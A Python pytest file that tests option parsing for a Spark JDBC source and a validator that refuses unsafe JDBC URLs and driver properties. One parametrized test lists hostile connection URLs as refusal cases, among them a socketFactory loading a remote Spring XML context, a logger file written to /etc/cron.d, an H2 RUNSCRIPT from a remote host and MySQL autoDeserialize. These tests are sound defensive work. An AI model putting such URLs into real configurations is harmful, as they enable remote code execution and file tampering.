"""Options of the JDBC source on Spark: read with their own meaning, or refused by name, all at once."""

import pytest

from playhead.errors import ConfigInvalid, Invalid
from playhead.pipeline.ingest.jdbc.mappings import columns_of, parse_mappings
from playhead.pipeline.ingest.jdbc.options import ID_MAPPING, TIME_MAPPING, check_options, parse_options
from playhead.pipeline.jdbc_url import refused_properties, refused_url, with_properties

URL = "jdbc:postgresql://db:5432/shop"
BASE = {
    "name": "orders",
    "connector.class": "io.confluent.connect.jdbc.JdbcSourceConnector",
    "tasks.max": "4",
    "connection.url": URL,
    "connection.user": "app",
    "connection.password": "geheim",
    "mode": "incrementing",
    "incrementing.column.name": "id",
    "topic.prefix": "t_",
    "value.converter": "org.apache.kafka.connect.json.JsonConverter",
    "value.converter.schemas.enable": "false",
}


def named(**more: str) -> list[str]:
    return [fault.where for fault in check_options({**BASE, **{k.replace("__", "."): v for k, v in more.items()}}, {})]


def test_an_ordinary_config_is_read():
    options = parse_options(
        {**BASE, "table.whitelist": "a, b", "timestamp.initial": "null", "batch.max.rows": "500"}, {}
    )
    assert (options.mode, options.incrementing_column, options.topic_prefix) == ("incrementing", "id", "t_")
    assert options.tables.include == ("a", "b")
    assert options.tables.types == ("TABLE",)
    assert (options.timestamp_initial_ms, options.batch_max_rows, options.timestamp_delay_ms) == (None, 500, 0)
    assert options.validate_non_null and options.quote_identifiers
    assert "geheim" not in repr(options) and URL not in repr(options)


def test_both_spellings_of_the_table_lists_are_taken():
    for include, exclude in (("table.whitelist", "table.blacklist"), ("table.include.list", "table.exclude.list")):
        assert parse_options({**BASE, include: "a"}, {}).tables.include == ("a",)
        assert parse_options({**BASE, exclude: "a"}, {}).tables.exclude == ("a",)
    assert named(table__whitelist="a", table__include__list="a") == ["table.include.list"]
    assert named(table__whitelist="a", table__blacklist="b") == ["table.blacklist"]


def test_all_faults_are_reported_at_once():
    config = {"mode": "sideways", "batch.max.rows": "none", "timestamp.initial": "yesterday", "transforms": "route"}
    faults = {fault.where for fault in check_options(config, {})}
    assert {"mode", "batch.max.rows", "timestamp.initial", "transforms", "connection.url", "topic.prefix"} <= faults
    with pytest.raises(ConfigInvalid):
        parse_options(config, {})


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("transforms", "route"),
        ("predicates", "old"),
        ("header.converter", "org.apache.kafka.connect.json.JsonConverter"),
        ("errors.tolerance", "all"),
        ("incremnting.column.name", "id"),
        ("connection.socketFactory", "evil.Factory"),
        ("quote.sql.identifiers", "sometimes"),
        ("validate.non.null", "maybe"),
        ("timestamp.column.name", "ts"),
        ("value.converter", "io.confluent.connect.avro.AvroConverter"),
    ],
)
def test_what_is_not_honoured_is_refused_by_name(name: str, value: str):
    assert name in [fault.where for fault in check_options({**BASE, name: value}, {})]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("header.converter", "org.apache.kafka.connect.storage.SimpleHeaderConverter"),
        ("errors.tolerance", "none"),
        ("errors.log.enable", "true"),
        ("transforms", ""),
        ("poll.linger.ms", "0"),
        ("connection.attempts", "5"),
        ("connection.loginTimeout", "10"),
        ("key.converter", "io.confluent.connect.avro.AvroConverter"),
        ("tasks.max.enforce", "false"),
        ("dialect.name", "PostgreSqlDatabaseDialect"),
        ("numeric.mapping", "best_fit"),
    ],
)
def test_what_makes_no_difference_is_let_through(name: str, value: str):
    assert check_options({**BASE, name: value}, {}) == []


def test_settings_for_the_driver_are_handed_on():
    options = parse_options({**BASE, "connection.loginTimeout": "10", "connection.attempts": "3"}, {})
    assert options.connection.properties == {"loginTimeout": "10"}


def test_cursor_columns_must_fit_the_mode():
    assert named(mode="timestamp") == ["timestamp.column.name", "incrementing.column.name"]
    assert named(mode="bulk") == ["incrementing.column.name"]
    assert named(mode="timestamp+incrementing", timestamp__column__name="a,b") == []


def test_a_query_needs_a_topic_and_no_tables():
    assert named(query="SELECT 1", topic__prefix="") == ["topic.prefix"]
    assert named(query="SELECT 1", table__whitelist="a") == ["query"]
    assert named(query="SELECT 1", incrementing__column__name="") == ["incrementing.column.name"]
    assert parse_options({**BASE, "query": " SELECT 1 ; "}, {}).query == "SELECT 1"


def test_a_masked_query_is_read_and_not_shown():
    options = parse_options({**BASE, "query.masked": " SELECT secret ; "}, {})
    assert options.query == "SELECT secret"
    assert "secret" not in repr(options)


def test_columns_are_mapped_by_the_names_of_tables():
    by_table = {
        "table.include.list": "public.*",
        "mode": "timestamp+incrementing",
        "incrementing.column.name": "",
        "incrementing.column.mapping": "public.orders: id , public.users:user_id",
        "timestamp.columns.mapping": "public.*:[changed | created]",
    }
    options = parse_options({**BASE, **by_table}, {})
    assert columns_of(options.id_mappings, ["shop.public.users", "public.users"], ID_MAPPING) == ("user_id",)
    assert columns_of(options.time_mappings, ["public.orders"], TIME_MAPPING) == ("changed", "created")


def test_a_table_must_match_exactly_one_mapping():
    mappings = parse_mappings(["public.o.*:a", "public.orders:b"], one=True)
    with pytest.raises(Invalid, match=r"'public.o.\*' and 'public.orders' of incrementing"):
        columns_of(mappings, ["public.orders"], ID_MAPPING)
    with pytest.raises(Invalid, match=r"no entry of incrementing\.column\.mapping matches the table public\.users"):
        columns_of(mappings, ["public.users"], ID_MAPPING)


def test_a_limit_may_not_part_equal_timestamps():
    of_time = {"mode": "timestamp", "timestamp__column__name": "ts", "incrementing__column__name": ""}
    assert named(**of_time, query__suffix="limit 5") == ["query.suffix"]
    assert named(**of_time, query__suffix="FOR SHARE") == []


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://db/shop",
        f"{URL}?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x",
        f"{URL}?sslfactory=evil.Factory",
        f"{URL}?ssl=true&loggerLevel=DEBUG&loggerFile=/etc/cron.d/x",
        f"{URL}?authenticationPluginClassName=evil.Plugin",
        f"{URL}?%73ocketFactory=evil.Factory",
        "JDBC:POSTGRESQL://db/shop?SocketFactory=evil.Factory",
        "jdbc:sqlite::memory:",
        "jdbc:sqlite:",
        "jdbc:sqlite:file:x?mode=memory&cache=shared",
        "jdbc:sqlite::resource:http://elsewhere/x.db",
        "jdbc:sqlite:/x.db?enable_load_extension=true",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://elsewhere/x.sql'",
        "jdbc:mysql://db/shop?autoDeserialize=true&queryInterceptors=x",
    ],
)
def test_a_url_that_could_run_code_or_touch_files_is_refused(url: str):
    faults = refused_url(url)
    assert faults
    assert not any("evil" in fault or "http" in fault or "cron" in fault for fault in faults)


@pytest.mark.parametrize(
    "url",
    [
        URL,
        f"{URL}?user=a&password=b&ssl=true&sslmode=verify-full&sslrootcert=/etc/ca.pem&ApplicationName=x&currentSchema=sales",
        "jdbc:postgresql://a,b:5433/shop?targetServerType=primary",
        "jdbc:sqlite:/data/x.db?busy_timeout=5000",
        "jdbc:mysql://db/shop?useSSL=true",
    ],
)
def test_an_ordinary_url_is_let_through(url: str):
    assert refused_url(url) == []


def test_properties_beside_the_url_obey_the_same_rules():
    assert refused_properties(URL, {"sslmode": "require", "sslhostnameverifier": "evil"}) == {
        "sslhostnameverifier": "is not an allowed property"
    }


@pytest.mark.parametrize(
    ("url", "full"),
    [
        ("jdbc:postgresql://db/shop", "jdbc:postgresql://db/shop?options=-c%20a%3Db&currentSchema=sales"),
        (
            "jdbc:postgresql://db/shop?ssl=true",
            "jdbc:postgresql://db/shop?ssl=true&options=-c%20a%3Db&currentSchema=sales",
        ),
        ("jdbc:postgresql://db/shop?currentSchema=x", "jdbc:postgresql://db/shop?currentSchema=x&options=-c%20a%3Db"),
        (
            "jdbc:postgresql://db/myoptions=?x=1",
            "jdbc:postgresql://db/myoptions=?x=1&options=-c%20a%3Db&currentSchema=sales",
        ),
    ],
)
def test_properties_are_added_to_a_url_unless_it_sets_them_itself(url, full):
    assert with_properties(url, {"options": "-c a=b", "currentSchema": "sales"}) == full


def test_a_property_that_spark_would_spell_otherwise_is_refused_where_the_url_cannot_carry_it():
    assert refused_properties("jdbc:oracle:thin:@db:1521/x", {"oracle.jdbc.ReadTimeout": "1", "v$session": "x"}) == {
        "oracle.jdbc.ReadTimeout": "must be in connection.url: Spark would pass it on in lower case"
    }
    assert refused_properties("jdbc:mysql://db/x", {"useSSL": "true"}) == {}
